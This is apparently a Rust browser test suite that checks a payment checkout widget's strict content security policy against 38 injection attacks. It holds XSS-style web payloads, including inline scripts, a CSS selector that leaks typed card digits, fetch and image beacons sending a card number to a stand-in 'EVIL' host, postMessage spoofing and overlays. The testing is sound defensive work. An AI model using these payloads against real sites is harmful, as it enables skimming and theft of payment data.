//! Whoever gets something into the strict page, and how far they get.

use std::{
    fs,
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicUsize, Ordering},
    },
};

use farthing_journeys::{
    checkout::Checkout,
    journey::{Setup, World, journey_with},
    process::free_port,
    project,
    site::Site,
    wait,
};
use serde_json::json;

use crate::recipe::{NONCE, Recipe};

/// What a page is told of a script without its hash; the console is not.
const INTEGRITY: &str = "integrity-violation";
const REPORTS: &str = "const [kind, done] = arguments, seen = [];
    const observer = new ReportingObserver((reports) => seen.push(...reports), { types: [kind], buffered: true });
    observer.observe();
    setTimeout(() => done(seen.length));";

/// How an attack ends.
enum End {
    /// The browser does not do it, and says so with these words.
    Blocked(&'static str),
    /// Nothing comes of it: the form is there as before.
    InVain,
    /// It is done. `docs/THREATS.md` says in these words that no widget can stop it.
    Done(&'static str),
}
use End::{Blocked, Done, InVain};

struct Attack {
    name: &'static str,
    /// What gets into the page's markup, at its end.
    markup: &'static str,
    /// What runs in the page once it is there.
    script: &'static str,
    end: End,
}

const fn markup(name: &'static str, markup: &'static str, end: End) -> Attack {
    Attack {
        name,
        markup,
        script: "",
        end,
    }
}

const fn script(name: &'static str, script: &'static str, end: End) -> Attack {
    Attack {
        name,
        markup: "",
        script,
        end,
    }
}

/// `EVIL` is another site, `PROVIDER` the provider, `STRANGER` an order of another merchant. Whoever gets through sets `pwned`, or asks `EVIL/beacon`.
const ATTACKS: [Attack; 38] = [
    markup("an inline script", "<script>window.pwned = 1</script>", Blocked("script-src")),
    markup("an inline handler", "<img src=/icon.svg onerror='window.pwned = 1'>", Blocked("script-src")),
    markup("an inline module", "<script type=module>import 'EVIL/evil.js'</script>", Blocked("script-src")),
    Attack {
        name: "a link that is a script",
        markup: "<a id=hit href='javascript:window.pwned = 1'>Pay here</a>",
        script: "document.getElementById('hit').click()",
        end: Blocked("script-src"),
    },
    markup("a foreign script", "<script src=EVIL/evil.js></script>", Blocked("script-src")),
    markup("a foreign script that knows the nonce", "<script nonce=NONCE src=EVIL/evil.js></script>", Blocked(INTEGRITY)),
    markup("the loader without its hash", "<script nonce=NONCE src=PROVIDER/v1/farthing.js></script>", Blocked(INTEGRITY)),
    markup("a base that leads elsewhere", "<base href=EVIL/><script nonce=NONCE src=evil.js></script>", Blocked("base-uri")),
    Attack {
        name: "a form that goes elsewhere",
        markup: "<form id=hit action=EVIL/beacon><input name=number value=4242></form>",
        script: "document.getElementById('hit').submit()",
        end: Blocked("form-action"),
    },
    markup("a frame of another site", "<iframe src=EVIL/beacon></iframe>", Blocked("frame-src")),
    markup("a frame of its own text", "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>", Blocked("script-src")),
    markup("a plug-in", "<object data=EVIL/beacon></object>", Blocked("object-src")),
    markup("a foreign style sheet", "<link rel=stylesheet href=EVIL/beacon>", Blocked("style-src")),
    markup("a style that hides the frame", "<style>farthing-checkout { opacity: 0 }</style>", Blocked("style-src")),
    markup("a style that reads what is typed", "<style>input[value^='4'] { background: url(EVIL/beacon) }</style>", Blocked("style-src")),
    markup("an element that takes the script's name", "<img name=currentScript src=/icon.svg>", Blocked("finds its provider by its own address")),
    markup("an overlay in the markup", "<div style='position: fixed; inset: 0; opacity: 0'></div>", Blocked("style-src")),
    markup("an image that carries something away", "<img src=EVIL/beacon?4242>", Blocked("img-src")),
    script("markup made of text", "document.body.innerHTML = '<b>x</b>'; window.pwned = 1", Blocked("TrustedHTML")),
    script("code made of text", // What WebDriver runs may do so itself.
        "setTimeout(() => (0, eval)('window.pwned = 1'))", Blocked("TrustedScript")),
    script(
        "a script's address made of text",
        "const s = document.createElement('script'); s.src = 'EVIL/evil.js'; document.body.append(s)",
        Blocked("TrustedScriptURL"),
    ),
    script("a request to another site", "fetch('EVIL/beacon').catch(() => {})", Blocked("connect-src")),
    script("a beacon to another site", "navigator.sendBeacon('EVIL/beacon', 'x')", Blocked("connect-src")),
    script("a service worker", "navigator.serviceWorker.register('/evil.js').catch((error) => console.error(String(error)))", Blocked("TrustedScriptURL")),
    script("a frame whose address is changed", "frame.src = 'EVIL/beacon'", Blocked("frame-src")),
    script("a frame that is led elsewhere", "frame.contentWindow.location = 'EVIL/beacon'", Blocked("frame-src")),
    script("a form of another merchant", "pay.setAttribute('order', 'STRANGER')", Blocked("frame-ancestors")),
    script(
        "messages that pretend to be the frame",
        "addEventListener('farthing-token', () => (window.pwned = 1));
         for (const data of ['{\"type\":\"token\",\"token\":\"tok_092wjk6gafbnnqk1wnmervzkevsd3h\",\"expires_at\":1,\
         \"hint\":{\"brand\":\"visa\",\"last_four\":\"4242\"}}']) postMessage(data, '*');",
        InVain,
    ),
    script(
        "messages that pretend to be the loader",
        "const { port1, port2 } = new MessageChannel();
         port1.onmessage = () => (window.pwned = 1);
         frame.contentWindow.postMessage({ farthing: 1, type: 'connect' }, 'PROVIDER', [port2]);",
        InVain,
    ),
    script("a false “Paid”", "pay.complete('paid')", InVain),
    script("a hand in the frame", "frame.contentDocument.body.append('x'); window.pwned = 1", InVain),
    script(
        "objects that all have more in them",
        "for (const name of ['type', 'token', 'order', 'code', 'outcome']) Object.prototype[name] = 'STRANGER';
         addEventListener('farthing-token', () => (window.pwned = 1));
         pay.reset()",
        InVain,
    ),
    script(
        "a frame beside it that a script talks to",
        "const own = document.createElement('iframe'), { port1, port2 } = new MessageChannel();
         own.src = frame.src;
         port1.onmessage = ({ data }) => { if (data.includes('ready')) window.pwned = 1; };
         own.onload = () => {
           own.contentWindow.postMessage({ farthing: 1, type: 'connect' }, 'PROVIDER', [port2]);
           port1.postMessage(JSON.stringify({ type: 'order', order: 'STRANGER' }));
         };
         document.body.append(own)",
        InVain,
    ),
    script("a second checkout", "document.body.append(pay.cloneNode()); delete window.pwned", InVain),
    script(
        "a form of its own",
        "pay.replaceWith(Object.assign(document.createElement('input'), { name: 'number' })); window.pwned = 1",
        Done("draw a false form of its own"),
    ),
    script(
        "an overlay made by a script",
        "const over = document.createElement('div');
         Object.assign(over.style, { position: 'fixed', inset: 0, opacity: 0.01 });
         document.body.append(over);
         if (document.elementFromPoint(innerWidth / 2, innerHeight / 2) === over) window.pwned = 1",
        Done("lay something over the frame"),
    ),
    markup("a page that leads elsewhere", "<meta http-equiv=refresh content='0; url=EVIL/beacon'>", Done("lead the shopper elsewhere")),
    markup("words that tell the shopper to pay elsewhere", "<p id=lie>Call us to pay.</p>", Done("tell the shopper something else")),
];

#[test]
fn whoever_gets_into_the_page_gets_no_further() {
    journey_with(wired(), async |world| {
        let threats = fs::read_to_string(project::root().join("docs/THREATS.md")).unwrap();
        let evil = Evil::site().await;
        let recipe = Recipe::read(world).await;
        for attack in &ATTACKS {
            println!("{}", attack.name);
            let ends = match attack.end {
                Blocked(_) => "blocked",
                InVain => "in vain",
                Done(_) => "**done**",
            };
            let row = format!(
                "| {} | {ends} | `tests/strict/attacks.rs` whoever_gets_into_the_page_gets_no_further |",
                attack.name
            );
            assert!(threats.contains(&row), "docs/THREATS.md has no row: {row}");
            let (console, beacons) = (world.browser.console().len(), evil.beacons());
            attack.run(world, &recipe, &evil).await;
            let through = async || {
                Checkout::new(&world.browser).leave().await.unwrap();
                let pwned = world.browser.read("return String(window.pwned ?? '')").await;
                !pwned.is_empty() || evil.beacons() > beacons
            };
            match attack.end {
                Blocked(words) => {
                    wait::until(&format!("{} is said to be blocked", attack.name), async || {
                        if words == INTEGRITY {
                            let client = &world.browser.client;
                            let seen = client.execute_async(REPORTS, vec![json!(words)]).await.unwrap();
                            return (seen.as_u64() > Some(0)).then_some(());
                        }
                        let lines = world.browser.console();
                        lines
                            .iter()
                            .skip(console)
                            .any(|line| line.contains(words))
                            .then_some(())
                    })
                    .await;
                    assert!(!through().await, "{}", attack.name);
                }
                InVain => {
                    // Whatever was sent has arrived when this has.
                    world.browser.client.execute_async(ROUND, vec![]).await.unwrap();
                    Checkout::with_form(&world.browser).await;
                    assert!(!through().await, "{}", attack.name);
                }
                Done(words) => {
                    assert!(threats.contains(words), "docs/THREATS.md does not say “{words}”");
                    wait::until(&format!("{} is done", attack.name), async || {
                        let lie = "return String(document.getElementById('lie') ?? '')";
                        let told = !world.browser.read(lie).await.is_empty();
                        (told || through().await).then_some(())
                    })
                    .await;
                }
            }
        }
        assert_eq!(world.provider.books.count("tokens"), 0);
    });
}

#[test]
fn a_loader_that_was_changed_on_the_way_does_not_run() {
    journey_with(wired(), async |world| {
        let recipe = Recipe::read(world).await;
        let changes = Arc::new(AtomicBool::new(false));
        let change = Arc::clone(&changes);
        world.wire().has(move |request, mut answer| {
            if request.starts_with("GET /v1/loader/") && change.load(Ordering::Relaxed) {
                answer.headers.remove("content-encoding");
                // Or the browser would keep it, as the address says.
                answer.headers.remove("cache-control");
                answer.body = "window.pwned = 1".into();
            }
            Some(answer)
        });
        let (order, reference) = world.kiosk.order().await;
        recipe.serve(world, &["strict"], &recipe.page(&order), &reference);
        let open = async || {
            let address = format!("{}/", world.kiosk.origin);
            world.browser.client.goto(&address).await.unwrap();
        };
        changes.store(true, Ordering::Relaxed);
        open().await;
        wait::until("the browser says that it is another", async || {
            let lines = world.browser.console();
            let words = "Failed to find a valid digest in the 'integrity' attribute";
            lines.iter().any(|line| line.contains(words)).then_some(())
        })
        .await;
        let state = "return String(window.pwned ?? '') + document.querySelectorAll('iframe, farthing-checkout').length";
        assert_eq!(world.browser.read(state).await, "0");
        // The same page with the loader as it is.
        changes.store(false, Ordering::Relaxed);
        open().await;
        Checkout::with_form(&world.browser).await;
    });
}

/// Resolves when messages that were posted before it have been delivered, in the page and in the frame's process.
const ROUND: &str = "const done = arguments[0];
    addEventListener('message', () => requestAnimationFrame(() => requestAnimationFrame(done)), { once: true });
    postMessage('round', '*');";

impl Attack {
    async fn run(&self, world: &World, recipe: &Recipe, evil: &Evil) {
        let (order, reference) = world.kiosk.order().await;
        let (strange, _) = world.stranger.order().await;
        let fill = |text: &str| {
            text.replace("EVIL", &evil.origin)
                .replace("PROVIDER", &world.provider.origin)
                .replace("NONCE", NONCE)
                .replace("STRANGER", &strange)
        };
        let page = recipe.page(&order);
        // These count before what they are for.
        let place = if self.markup.starts_with("<base") || self.markup.contains("currentScript") {
            "<meta"
        } else {
            "</body>"
        };
        let page = page.replacen(place, &format!("{}{place}", fill(self.markup)), 1);
        recipe.serve(world, &["strict"], &page, &reference);
        let address = format!("{}/", world.kiosk.origin);
        world.browser.client.goto(&address).await.unwrap();
        if self.script.is_empty() {
            return;
        }
        if self.markup.is_empty() {
            Checkout::with_form(&world.browser).await;
            Checkout::new(&world.browser).leave().await.unwrap();
        }
        // What throws was stopped, and says so.
        let script = format!(
            "const pay = document.querySelector('farthing-checkout');
             const frame = pay.shadowRoot.querySelector('iframe');
             try {{ {} }} catch (error) {{ console.error(String(error)) }}",
            fill(self.script)
        );
        world.browser.client.execute(&script, vec![]).await.unwrap();
    }
}

/// Another site, whose owner wants to know.
struct Evil {
    origin: String,
    beacons: Arc<AtomicUsize>,
    _site: Site,
}

impl Evil {
    async fn site() -> Self {
        let port = free_port();
        let site = Site::serve(port).await;
        site.put("/evil.js", "window.pwned = 1");
        let beacons = Arc::new(AtomicUsize::new(0));
        let seen = Arc::clone(&beacons);
        site.answer("/beacon", move |_| {
            seen.fetch_add(1, Ordering::Relaxed);
            async { json!(null) }
        });
        Self {
            origin: format!("http://localhost:{port}"),
            beacons,
            _site: site,
        }
    }

    fn beacons(&self) -> usize {
        self.beacons.load(Ordering::Relaxed)
    }
}

fn wired() -> Setup {
    Setup {
        wire: true,
        ..Setup::default()
    }
}
